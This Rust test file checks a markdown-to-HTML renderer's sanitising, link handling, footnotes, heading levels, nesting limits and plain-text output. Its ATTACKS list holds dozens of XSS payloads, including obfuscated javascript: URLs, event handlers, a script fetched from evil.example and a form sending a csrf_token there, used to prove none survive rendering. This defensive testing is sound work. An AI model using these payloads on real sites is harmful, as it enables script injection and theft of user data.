use scraper::{ElementRef, Html, Selector};

use super::*;
use crate::render::say::tests::english;

fn html(markdown: &str) -> String {
    to_html(markdown, &HtmlOptions::default(), &english()).to_string()
}

fn select<'h>(page: &'h Html, selector: &str) -> Vec<ElementRef<'h>> {
    page.select(&Selector::parse(selector).expect("a selector")).collect()
}

fn text_of(markdown: &str) -> String {
    Html::parse_fragment(&html(markdown)).root_element().text().collect()
}

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=//evil.example>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<form action=//evil.example><input name=csrf_token><button>x</button></form>",
    "<style>@import '//evil.example';</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=//evil.example/>",
    "<details open ontoggle=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\u{0}script:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](<\u{1} javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/desk/letters)",
    "[x](#p1)",
    "[x](https://known.example@evil.example/)",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](https://a.example '\"onmouseover=\"alert(1)')",
    "[x](https://a.example \"><script>alert(1)</script>\")",
    "<javascript:alert(1)>",
    "<https://a.example/\"onclick=alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![\"onerror=\"alert(1)](x)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "x[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: y",
    "x[^1]\n\n[^1]: <script>alert(1)</script> [y](javascript:alert(1))",
    "```\"><script>alert(1)</script>\nx\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)> {onclick=alert(1) #a .b}",
    "> <script>\n> alert(1)\n> </script>",
    "- <script>alert(1)</script>\n  <b onclick=alert(1)>x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u{202e}<script>alert(1)</script>",
    "<a\u{0}href=javascript:alert(1)>x</a>",
    "<x/onclick=alert(1)>x",
    "<p id=p1 class=x dir=rtl>x</p>",
];

#[test]
fn no_attack_becomes_a_tag_an_event_or_a_foreign_address() {
    const TAGS: [&str; 19] = [
        "p",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "blockquote",
        "pre",
        "code",
        "ul",
        "ol",
        "li",
        "em",
        "strong",
        "a",
        "br",
        "hr",
        "sup",
        "section",
    ];
    assert!(ATTACKS.len() >= 40);
    for attack in ATTACKS {
        for markdown in [attack.to_string(), format!("We **call** {attack} now"), format!("> - {attack}\n\nand")] {
            let made = html(&markdown);
            let page = Html::parse_fragment(&made);
            assert!(page.errors.is_empty() || !page.errors.iter().any(|e| e.contains("Unexpected token")), "{made}");
            for element in select(&page, "*").into_iter().filter(|element| element.value().name() != "html") {
                let element = element.value();
                assert!(TAGS.contains(&element.name()), "{attack:?} made <{}>: {made}", element.name());
                for (name, value) in element.attrs() {
                    let known = ["href", "rel", "dir", "id", "role", "aria-label", "start"].contains(&name);
                    assert!(known, "{attack:?} made {name}={value:?}");
                    assert!(
                        name != "id" || value.starts_with("note-") || value.starts_with("ref-"),
                        "{attack:?} made id={value}"
                    );
                    assert!(name != "dir" || value == "auto", "{attack:?} made dir={value}");
                }
            }
            for link in select(&page, "a") {
                let address = link.attr("href").unwrap_or_default();
                let is_fine = address.starts_with("https://a.example")
                    || address.starts_with("#note-")
                    || address.starts_with("#ref-");
                assert!(is_fine, "{attack:?} links to {address:?}");
                assert_eq!(link.attr("rel"), Some("nofollow noopener noreferrer"));
            }
        }
    }
}

#[test]
fn raw_html_is_shown_as_the_text_it_is() {
    assert_eq!(text_of("A <b>bold</b> claim").trim(), "A <b>bold</b> claim");
    assert_eq!(text_of("<div>\nblock\n</div>\n\nafter").trim(), "<div>\nblock\n</div>\nafter");
    assert_eq!(text_of("<!-- a remark -->").trim(), "<!-- a remark -->");
}

#[test]
fn a_picture_is_shown_by_its_description() {
    assert_eq!(text_of("See ![a *dry* river](https://a.example/r.png).").trim(), "See a dry river.");
}

#[test]
fn links_lead_to_the_web_and_to_mailboxes_only() {
    let made = html("[a](https://a.example/x?y=1&z=2) <http://b.example> <c@d.example> [e](ftp://e.example) [f](g)");
    let page = Html::parse_fragment(&made);
    let addresses: Vec<_> = select(&page, "a").iter().filter_map(|link| link.attr("href")).map(str::to_owned).collect();
    assert_eq!(addresses, ["https://a.example/x?y=1&z=2", "http://b.example/", "mailto:c@d.example"]);
    assert_eq!(text_of("[e](ftp://e.example) [f](g)").trim(), "e f");
}

#[test]
fn a_bare_address_is_a_link_without_the_punctuation_around_it() {
    let table = [
        ("See https://a.example/x_y_z?q=1&r=2.", "https://a.example/x_y_z?q=1&r=2"),
        ("(see http://a.example/b(c))", "http://a.example/b(c)"),
        ("[^1]\n\n[^1]: https://a.example, 2020", "https://a.example/"),
        ("见https://a.example。", ""),
        ("xhttps://a.example", ""),
        ("https://", ""),
        ("https://known.example@other.example/", ""),
        ("`https://a.example` and ftp://a.example", ""),
        ("[https://a.example](https://b.example)", "https://b.example/"),
    ];
    for (markdown, address) in table {
        let made = html(markdown);
        let page = Html::parse_fragment(&made);
        let found: Vec<_> =
            select(&page, "a:not([role])").iter().filter_map(|link| link.attr("href")).map(str::to_owned).collect();
        assert_eq!(found.concat(), address, "{markdown}");
    }
    assert_eq!(text_of("See https://a.example/x_y.").trim(), "See https://a.example/x_y.");
}

#[test]
fn headings_stand_below_the_title_of_the_page_and_skip_no_level() {
    let made = html("### A\n\n###### B\n\n### C\n\n# D\n");
    let page = Html::parse_fragment(&made);
    let names: Vec<_> =
        select(&page, "h1,h2,h3,h4,h5,h6").iter().map(|heading| heading.value().name().to_owned()).collect();
    assert_eq!(names, ["h2", "h3", "h4", "h2"]);
    let deeper = to_html("# A\n\n# B", &HtmlOptions { top_heading: 3, ..HtmlOptions::default() }, &english());
    assert_eq!(deeper.as_str().matches("<h3").count(), 2);
}

#[test]
fn every_block_runs_in_the_direction_of_its_own_script() {
    let made = html("# عنوان\n\nنحن\n\n> اقتباس\n\n1. واحد\n\n- x\n\n    code");
    let page = Html::parse_fragment(&made);
    for element in select(&page, "p, h2, blockquote, ol, ul, li, pre") {
        assert_eq!(element.attr("dir"), Some("auto"), "{}", element.html());
    }
}

#[test]
fn notes_stand_at_the_end_with_links_both_ways() {
    let made = html(
        "One[^b], two[^a], one again[^b].\n\n[^a]: Second.\n[^b]: First, see[^c].\n[^c]: Third.\n[^d]: Nobody asks.",
    );
    let page = Html::parse_fragment(&made);
    let notes: Vec<String> = select(&page, "section[role=doc-endnotes][aria-label=Notes] > ol > li")
        .iter()
        .map(|note| note.text().collect::<String>().replace(['↩', '\u{fe0e}'], "").trim().to_owned())
        .collect();
    assert_eq!(notes, ["First, see3.", "Second.", "Third.", "Nobody asks."]);
    for link in select(&page, "a") {
        let id = link.attr("href").and_then(|address| address.strip_prefix('#')).expect("within the page");
        assert_eq!(select(&page, &format!("[id='{id}']")).len(), 1, "{id}");
    }
    assert_eq!(select(&page, "#note-1 a[role=doc-backlink]").len(), 2);
    assert_eq!(select(&page, "#note-4 a[role=doc-backlink]").len(), 0);
    assert_eq!(text_of("A note that[^is] missing").trim(), "A note that[^is] missing");
}

#[test]
fn paragraphs_can_be_numbered_and_two_texts_can_share_a_page() {
    let options = HtmlOptions { numbered: true, id_prefix: "old-", ..HtmlOptions::default() };
    let made = to_html("# T\n\nA[^1]\n\n- b\n\n  c\n\n> d\n\ne\n\n[^1]: f", &options, &english());
    let page = Html::parse_fragment(made.as_str());
    let ids: Vec<_> =
        select(&page, "[id]").iter().filter_map(|element| element.attr("id")).map(str::to_owned).collect();
    assert_eq!(ids, ["old-p1", "old-ref-1-1", "old-p2", "old-p3", "old-p4", "old-note-1"]);
}

#[test]
fn a_numbered_list_begins_where_its_author_began() {
    assert!(html("3. a\n4. b").contains("<ol start=\"3\" dir=\"auto\">"));
    assert!(html("1. a\n2. b").contains("<ol dir=\"auto\">"));
}

#[test]
fn deep_nesting_keeps_the_words_and_loses_the_marks() {
    let deep = format!("{}word", "> ".repeat(500));
    assert_eq!(html(&deep).matches("<blockquote").count(), 16);
    assert_eq!(text_of(&deep).trim(), "word");
    let lists: String = (0..40).map(|n| format!("{}- item{n}\n", "  ".repeat(n))).collect();
    let made = html(&lists);
    assert!(made.matches("<ul").count() <= 16);
    let words: Vec<_> = text_of(&lists).split_whitespace().map(str::to_owned).collect();
    assert_eq!(words, (0..40).map(|n| format!("item{n}")).collect::<Vec<_>>());
}

#[test]
fn the_longest_and_oddest_texts_are_rendered_in_time() {
    let odd = [
        "> ",
        "- ",
        "[",
        "![",
        "*a_",
        "**",
        "`",
        "<",
        "[^1]",
        "&amp;",
        "\\",
        "a\n\n",
        "[a](",
        "<!--",
        "# ",
        "1. ",
        "[^a]: x\n",
        "  ",
    ];
    let notes: String = (0..4000).map(|n| format!("[^{n}][^{}]\n\n[^{n}]: x\n\n", n / 2)).collect();
    let repeated = odd.iter().map(|piece| piece.repeat(100 * 1024 / piece.len()));
    let addresses = ["https://a.example ", "https://", "https://a)", "(https://a.example)"]
        .map(|piece| piece.repeat(100 * 1024 / piece.len()));
    for text in repeated.chain(addresses).chain([notes, format!("https://{}", ")".repeat(100_000))]) {
        let piece = &text[..10];
        let began = std::time::Instant::now();
        html(&text);
        to_plain(&text);
        assert!(began.elapsed().as_secs() < 10, "{piece:?} took {:?}", began.elapsed());
    }
}

#[test]
fn a_mail_shows_the_text_wrapped_with_marks_and_addresses() {
    let markdown = "## Our demands\n\nWe call on the *council* to protect all rivers that cross its borders, as [the treaty](https://a.example/t) says[^1].\n\n1. Clean water for everybody who lives along the river or draws from it in any season;\n2. Public data.\n   - Daily\n\n> Quoted\n>\n> twice.\n\nSee <https://a.example/>.\\\nWrite to <b@c.example>.\n\n[^1]: Article 12.";
    let expected = "\
Our demands
-----------

We call on the council to protect all rivers that cross its borders, as
the treaty <https://a.example/t> says[1].

1. Clean water for everybody who lives along the river or draws from it
   in any season;
2. Public data.
   - Daily

> Quoted
>
> twice.

See https://a.example/.
Write to b@c.example.

[1] Article 12.
";
    assert_eq!(to_plain(markdown), expected);
    assert_eq!(to_plain(""), "");
    assert!(to_plain(&"word ".repeat(500)).lines().all(|line| line.chars().count() <= MAIL_WIDTH));
}

#[test]
fn a_summary_is_the_first_words_of_the_paragraphs() {
    let markdown = "# Title\n\nWe, the *undersigned*, call\nfor peace[^1].\n\n- Clean water\n- Data\n\n[^1]: Note.";
    assert_eq!(summary(markdown, 5), "We, the undersigned, call for…");
    assert_eq!(summary(markdown, 3), "We, the undersigned…");
    assert_eq!(summary(markdown, 60), "We, the undersigned, call for peace. Clean water Data");
    assert_eq!(summary("", 5), "");
    assert_eq!(summary("我们呼吁各国政府", 2), "我们…");
}

proptest::proptest! {
    #[test]
    fn any_text_is_rendered_as_clean_html(markdown in "([a-z<>!\\[\\]()*_`#&;:/\"'=^\\-\n ]|<a|on|\\[\\^|]: |\\PC){0,80}") {
        let made = html(&markdown);
        let again = super::safe::cleaned(&made);
        proptest::prop_assert_eq!(&again, &made, "the second lock has nothing more to do");
        let words = |text: String| text.split_whitespace().collect::<String>();
        let shown = words(Html::parse_fragment(&made).root_element().text().collect());
        proptest::prop_assert!(shown.chars().all(|c| c != '\0'));
        to_plain(&markdown);
        summary(&markdown, 5);
    }
}
